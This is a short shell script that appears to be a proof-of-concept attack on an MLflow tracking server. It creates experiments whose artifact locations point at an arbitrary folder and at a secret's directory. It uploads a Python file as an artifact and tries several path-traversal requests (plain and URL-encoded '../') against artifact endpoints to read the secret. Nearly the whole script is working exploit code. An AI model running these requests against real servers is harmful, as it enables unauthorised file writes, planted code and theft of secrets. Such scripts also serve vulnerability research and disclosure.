#!/bin/sh
# What a user of the machine without a password may try: write a DAG, read a secret.
# attack.sh MLFLOW FOLDER SECRET
set -u
MLFLOW=$1 FOLDER=$2 SECRET=$3
ask() { curl --silent --max-time 60 --header 'content-type: application/json' "$@"; echo; }
ask "$MLFLOW/api/2.0/mlflow/experiments/create" \
    --data "{\"name\": \"write $$\", \"artifact_location\": \"file://$FOLDER\"}"
ask "$MLFLOW/api/2.0/mlflow/experiments/create" \
    --data "{\"name\": \"read $$\", \"artifact_location\": \"$(dirname "$SECRET")\"}"
RUN=$(ask "$MLFLOW/api/2.0/mlflow/runs/create" --data '{"experiment_id": "0", "start_time": 1}' |
    sed -n 's/.*"run_id": "\([0-9a-f]*\)".*/\1/p' | head -n 1)
ask "$MLFLOW/ajax-api/2.0/mlflow/upload-artifact?path=code.py&run_uuid=$RUN" --data 'import os'
for path in "../../../$(basename "$SECRET")" "$SECRET" "..%2f..%2f$(basename "$SECRET")"; do
    ask "$MLFLOW/get-artifact?run_uuid=$RUN&path=$path"
    ask "$MLFLOW/api/2.0/mlflow-artifacts/artifacts/$path"
done
